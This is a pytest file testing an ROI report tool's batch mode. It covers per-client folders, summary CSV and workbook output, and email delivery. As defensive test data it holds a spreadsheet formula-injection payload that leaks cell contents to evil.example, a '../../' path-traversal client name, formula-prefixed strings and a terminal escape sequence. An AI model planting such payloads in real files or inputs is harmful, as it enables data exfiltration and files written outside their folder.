"""`roi-report batch`: many clients in one run, one broken; folders from client names;
summary workbook and CSV with formula-looking text neutralized; email per client."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from test_email import SmtpServer
from workbooks import GOOD_COST, GOOD_GOAL, GOOD_RESULT, make_workbook

from roi_report.cli import main
from roi_report.delivery import batch
from roi_report.delivery.batch import (
    ClientResult,
    _Progress,
    discover,
    neutralize,
    summary_table,
    write_summaries,
)
from roi_report.pdf.sections.base import report_title

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def good_workbook(path: Path, client: str, language: str = "en", email_to: str = "") -> Path:
    make_workbook(
        path,
        settings={"Client": client, "Language": language, "Email to": email_to or None},
        costs=[GOOD_COST],
        goals=[{**GOOD_GOAL, "Target": 100}],
        results=[GOOD_RESULT],
    )
    book = load_workbook(path)  # the client name as typed text, even when it starts with "="
    for label, value in book["Report"].iter_rows(min_row=2):
        if label.value == "Client":
            value.value, value.data_type = client, "s"
    book.save(path)
    return path


def broken_workbook(path: Path) -> Path:
    return make_workbook(path, costs=[{**GOOD_COST, "Campaign": "A", "Amount": -50}])


GOOD = {  # file -> (client, language, Email to)
    "acme-us.xlsx": ("Acme", "en", "cfo@acme.example"),
    "acme-uk.xlsx": ("Acme", "en", "reject@acme.example"),  # the server refuses this one
    "inject.xlsx": (INJECTION, "fr", "dg@evil.example"),
    "escape.xlsx": ("../../escaped", "pl", "prezes@firma.example, cfo@firma.example"),
}


@pytest.fixture(scope="module")
def agency(tmp_path_factory):
    """A folder of clients (four good, one broken, a lock file and an old output), with a
    roi-report.toml, run once through `batch --email` against a real SMTP server."""
    root = tmp_path_factory.mktemp("agency")
    clients = root / "clients"
    clients.mkdir()
    for name, (client, language, email_to) in GOOD.items():
        good_workbook(clients / name, client, language, email_to)
    broken_workbook(clients / "broken.xlsx")
    (clients / "~$acme-us.xlsx").write_bytes(b"Excel lock file")
    (clients / "acme-us-roi.xlsx").write_bytes(b"an earlier output")
    with SmtpServer() as server:
        (clients / "roi-report.toml").write_text(
            'output = "reports"\n'
            'sender = "Agency Reports <reports@agency.example>"\n'
            'smtp_host = "127.0.0.1"\n'
            f"smtp_port = {server.port}\n"
            'smtp_security = "none"\n',
            encoding="utf-8",
        )
        env = {f"ROI_REPORT_SMTP_{k}": "" for k in ("HOST", "PORT", "USER", "FROM", "SECURITY")}
        here = os.getcwd()
        os.chdir(clients)  # a roi-report.toml sets the server only from the folder run from
        try:
            result = CliRunner().invoke(
                main, ["batch", str(clients), "--workers", "2", "--email"], env=env
            )
        finally:
            os.chdir(here)
        messages = list(server.messages)
    out = clients / "reports"
    return {"result": result, "out": out, "root": root, "messages": messages}


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_batch_exit_1_names_the_broken_workbook_and_its_problem(agency):
    result = agency["result"]
    assert result.exit_code == 1, result.output
    assert "clients failed" in result.output
    # named with its client and problem, the Report sheet being readable
    assert "broken.xlsx (Test Client): Costs!G2: -50 is negative" in result.output
    # the refused email is a failure too, named with its reason
    assert "acme-uk.xlsx (Acme): email not sent" in result.output
    assert "reject@acme.example" in result.output
    assert "Traceback" not in result.output


def test_one_pdf_per_good_workbook_each_in_its_own_folder(agency):
    out = agency["out"]
    pdfs = sorted(out.rglob("*.pdf"))
    assert len(pdfs) == len(GOOD)
    assert {p.stem for p in pdfs} == {Path(n).stem + "-roi" for n in GOOD}
    assert len({p.parent for p in pdfs}) == len(GOOD)  # two "Acme" clients, two folders
    for pdf in pdfs:
        assert pdf.read_bytes().startswith(b"%PDF-")
        assert pdf.parent.parent == out  # never outside the output folder
        assert (pdf.parent / (pdf.stem + ".xlsx")).is_file()
    folders = {p.parent.name for p in pdfs}
    assert {"Acme", "Acme-2", "escaped"} <= folders
    # nothing escaped the output folder, and no staging folder is left
    assert not (agency["root"] / "escaped").exists()
    assert not (agency["root"].parent / "escaped").exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
    assert not list((agency["root"] / "clients").glob("*.pdf"))


def test_summary_names_every_client_with_status_and_problem(agency):
    rows = read_csv(agency["out"] / "summary.csv")
    by_file = {row["Workbook"]: row for row in rows}
    assert set(by_file) == set(GOOD) | {"broken.xlsx"}  # lock file and old output skipped
    broken = by_file["broken.xlsx"]
    assert broken["Status"] == "failed"
    assert broken["Problem"].startswith("Costs!G2: -50 is negative")
    us = by_file["acme-us.xlsx"]
    assert us["Status"] == "emailed" and us["Emailed to"] == "cfo@acme.example"
    assert us["Client"] == "Acme" and us["Period"] == "2025-07-01 – 2025-09-30"
    assert float(us["Investment"]) == 1000 and float(us["Return"]) == 1200
    assert float(us["ROI %"]) == 20.0 and us["Best channel"] == "LinkedIn"
    # two clients called Acme: Acme and Acme-2, in the order they finished
    assert {us["Report"], by_file["acme-uk.xlsx"]["Report"]} in (
        {"Acme/acme-us-roi.pdf", "Acme-2/acme-uk-roi.pdf"},
        {"Acme-2/acme-us-roi.pdf", "Acme/acme-uk-roi.pdf"},
    )
    uk = by_file["acme-uk.xlsx"]
    assert uk["Status"] == "email failed" and "reject@acme.example" in uk["Problem"]
    assert by_file["escape.xlsx"]["Emailed to"] == "prezes@firma.example, cfo@firma.example"

    sheet = load_workbook(agency["out"] / "summary.xlsx").active
    header = [c.value for c in sheet[1]]
    table = [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]
    table = [r for r in table if r["Workbook"]]  # the totals per currency come below
    assert {r["Workbook"]: r["Status"] for r in table} == {r["Workbook"]: r["Status"] for r in rows}
    assert next(r for r in table if r["Workbook"] == "broken.xlsx")["Problem"].startswith(
        "Costs!G2"
    )


def test_injection_is_neutralized_in_csv_and_workbook(agency):
    rows = read_csv(agency["out"] / "summary.csv")
    assert next(r for r in rows if r["Workbook"] == "inject.xlsx")["Client"] == "'" + INJECTION
    book = load_workbook(agency["out"] / "summary.xlsx")
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert "'" + INJECTION in [c.value for c in cells]
    raw = (agency["out"] / "summary.csv").read_text(encoding="utf-8-sig")
    assert "\n=" not in raw and ',"=' not in raw and ",=" not in raw


def test_every_good_client_got_its_email(agency):
    received = {tuple(m["to"]): m["message"] for m in agency["messages"]}
    assert set(received) == {
        ("cfo@acme.example",),
        ("dg@evil.example",),
        ("prezes@firma.example", "cfo@firma.example"),
    }
    out = agency["out"]
    polish = received[("prezes@firma.example", "cfo@firma.example")]
    assert str(polish["Subject"]).startswith(report_title(None, "pl"))
    pdf = next(polish.iter_attachments())
    assert pdf.get_content() == (out / "escaped" / "escape-roi.pdf").read_bytes()
    french = received[("dg@evil.example",)]
    assert str(french["Subject"]).startswith(report_title(None, "fr"))


def test_progress_lines_when_not_a_terminal(agency):
    output = agency["result"].output
    assert "[1/5]" in output and "[5/5]" in output
    assert "4 of 5 reports built" in output
    assert "Client" in output and "Best channel" in output  # the summary table


# ------------------------------------------------------------------------------ discovery


def test_discover_folders_files_and_globs(tmp_path):
    (tmp_path / "reports").mkdir()
    for name in ("summary.xlsx", "summary.csv"):  # an earlier batch's summary
        (tmp_path / "reports" / name).write_bytes(b"x")
    for name in ("b.xlsx", "a.xlsm", "~$a.xlsm", "a-roi.xlsx", ".hidden.xlsx", "notes.txt"):
        (tmp_path / name).write_bytes(b"x")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "c.xlsx").write_bytes(b"x")
    # a folder is searched recursively; the earlier summary and outputs are skipped
    assert [p.name for p in discover([tmp_path])] == ["a.xlsm", "b.xlsx", "c.xlsx"]
    summary = tmp_path / "reports" / "summary.xlsx"
    assert [p.name for p in discover([summary, tmp_path / "b.xlsx"])] == ["b.xlsx"]
    globbed = discover([str(tmp_path / "**" / "*.xlsx")])
    assert sorted(p.name for p in globbed) == ["b.xlsx", "c.xlsx"]
    # what a shell hands over for clients/*: lock files and outputs are still skipped
    expanded = [tmp_path / n for n in ("~$a.xlsm", "a-roi.xlsx", "b.xlsx", "b.xlsx")]
    assert [p.name for p in discover(expanded)] == ["b.xlsx"]
    with pytest.raises(batch.BatchError, match="no such file or folder"):
        discover([tmp_path / "missing"])
    with pytest.raises(batch.BatchError, match="no workbooks found"):
        discover([tmp_path / "sub" / "*.xlsm"])


# ------------------------------------------------------------------------------ isolation


def _crashing_build(task):
    if task.source.name == "crash.xlsx":
        os._exit(3)  # a worker process dying, as on running out of memory
    return _real_build_client(task)


_real_build_client = batch.build_client


@pytest.mark.skipif(
    multiprocessing.get_start_method() != "fork", reason="the patch reaches workers by fork"
)
def test_a_dying_worker_fails_only_its_own_client(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "build_client", _crashing_build)
    folder = _mkdir(tmp_path / "in")
    for name in ("a.xlsx", "crash.xlsx", "c.xlsx", "d.xlsx"):
        good_workbook(folder / name, name[0].upper())
    result = CliRunner().invoke(
        main,
        ["batch", str(folder), "-o", str(tmp_path / "out"), "--workers", "2", "--no-pdf", "-q"],
    )
    assert result.exit_code == 1, result.output
    assert "crash.xlsx" in result.output and "stopped unexpectedly" in result.output
    assert "[1/" not in result.output  # --quiet
    rows = {r["Workbook"]: r["Status"] for r in read_csv(tmp_path / "out" / "summary.csv")}
    assert rows == {"a.xlsx": "ok", "crash.xlsx": "failed", "c.xlsx": "ok", "d.xlsx": "ok"}


def _mkdir(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    return path


def test_good_batch_exits_0_with_dry_run_emails(tmp_path):
    folder = _mkdir(tmp_path / "in")
    good_workbook(folder / "one.xlsx", "One", "es", "uno@cliente.example")
    good_workbook(folder / "two.xlsx", "Two", "en", "two@client.example")
    result = CliRunner().invoke(
        main,
        [
            "batch",
            str(folder / "*.xlsx"),
            "-o",
            str(tmp_path / "out"),
            "--workers",
            "2",
            "--dry-run",
            "--from",
            "reports@agency.example",
        ],
    )
    assert result.exit_code == 0, result.output
    emls = sorted((tmp_path / "out").rglob("*.eml"))
    assert [p.relative_to(tmp_path / "out").as_posix() for p in emls] == [
        "One/one-roi.eml",
        "Two/two-roi.eml",
    ]
    message = BytesParser(policy=policy.default).parse(emls[0].open("rb"))
    assert str(message["To"]) == "uno@cliente.example"
    assert str(message["Subject"]).startswith(report_title(None, "es") + ": One")
    statuses = {r["Client"]: r["Status"] for r in read_csv(tmp_path / "out" / "summary.csv")}
    assert statuses == {"One": "email written", "Two": "email written"}
    assert "2 of 2 reports built" in result.output


def test_each_reports_pdf_warnings_show_under_its_own_client(tmp_path):
    from roi_report.delivery.shards import read_summary

    undrawable = "\U0010fffd"  # a private-use character no installed font has
    folder = _mkdir(tmp_path / "in")
    good_workbook(folder / "odd.xlsx", f"Odd {undrawable} Corp")
    good_workbook(folder / "plain.xlsx", "Plain")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["batch", str(folder), "-o", str(out), "--workers", "2", "--language", "en"]
    )
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    start = lines.index("PDF warnings:")
    assert lines[start + 1] == f"  odd.xlsx (Odd {undrawable} Corp):"
    assert lines[start + 2].startswith("    warning: no installed font has the character(s) ")
    assert "U+10FFFD" in lines[start + 2]
    assert not lines[start + 3].strip()  # one client warned, one warning: the block ends
    assert sum("U+10FFFD" in line for line in lines) == 1
    assert not [line for line in lines[start:] if "plain.xlsx" in line]

    rows = {r["Workbook"]: r for r in read_csv(out / "summary.csv")}
    assert list(rows["odd.xlsx"])[-1] == "PDF warnings"  # the new column comes last
    assert "U+10FFFD" in rows["odd.xlsx"]["PDF warnings"]
    assert rows["plain.xlsx"]["PDF warnings"] == ""
    sheet = load_workbook(out / "summary.xlsx").active
    header = [c.value for c in sheet[1]]
    table = {row[1].value: row[header.index("PDF warnings")].value for row in sheet.iter_rows(2)}
    assert "U+10FFFD" in table["odd.xlsx"] and not table["plain.xlsx"]
    merged, _emailing = read_summary(out / "summary.csv")
    assert {c.source.name: len(c.notices) for c in merged} == {"odd.xlsx": 1, "plain.xlsx": 0}


def test_a_failed_workbook_is_named_with_its_period_as_validation_reads_dates(tmp_path):
    # Period start as a date serial number, Period end as a timestamp text
    path = make_workbook(
        tmp_path / "broken.xlsx",
        settings={"Period start": 45839, "Period end": "2025-09-30 18:00"},
        costs=[{**GOOD_COST, "Campaign": "A", "Amount": -50}],
    )
    client, start, end = batch._settings_of(path)
    assert (client, start.isoformat(), end.isoformat()) == (
        "Test Client",
        "2025-07-01",
        "2025-09-30",
    )


# ------------------------------------------------------------------------------ summary


def test_neutralize_follows_owasp():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralize(text) == "'" + text
    for value in ("Acme", "", " =x", "'already", 12.5, -3.0, None):
        assert neutralize(value) == value


def test_summary_files_neutralize_every_text_field(tmp_path):
    nasty = ClientResult(
        0,
        Path("+evil.xlsx"),
        client="@cmd",
        currency="-X",
        best_channel="=2*3",
        problems=("\t=tab", "more"),
    )
    fine = ClientResult(
        1,
        Path("ok.xlsx"),
        client="Fine",
        investment=10.0,
        return_=5.0,
        roi_pct=-50.0,
        roi_change=-7.25,
    )
    fine.status = "ok"
    xlsx, csv_path = write_summaries([nasty, fine], tmp_path)
    row, ok = read_csv(csv_path)
    assert row["Client"] == "'@cmd" and row["Workbook"] == "'+evil.xlsx"
    assert row["Currency"] == "'-X" and row["Best channel"] == "'=2*3"
    assert row["Problem"] == "'\t=tab (and 1 more)"
    assert ok["ROI %"] == "-50.0" and ok["ROI change (pp)"] == "-7.2"  # numbers stay numbers
    sheet = load_workbook(xlsx).active
    values = [[c.value for c in r] for r in sheet.iter_rows(min_row=2)]
    assert values[0][0] == "'@cmd" and values[0][8] == "'=2*3"
    assert values[1][6] == -50.0
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


def test_summary_table_and_progress_bar():
    done = ClientResult(0, Path("a.xlsx"), client="Żółć\x1b[2J", currency="PLN", language="pl")
    done.investment, done.return_, done.roi_pct, done.status = 100.0, 250.0, 150.0, "ok"
    failed = ClientResult(1, Path("b.xlsx"), problems=("Costs!G2: bad",))
    text = summary_table([done, failed], "pl")  # the house language
    assert "\x1b" not in text and "Żółć?[2J" in text  # escape sequences never reach the terminal
    assert "150,0%" in text and "błąd: Costs!G2: bad" in text
    assert "Razem, 1 klient" in text and "250,00 zł" in text  # totals per currency

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    stream = Terminal()
    progress = _Progress(2, quiet=False, stream=stream)
    progress.step(done)
    progress.step(failed)
    progress.close()
    assert "Building reports" in stream.getvalue()
    assert "[1/2]" not in stream.getvalue()
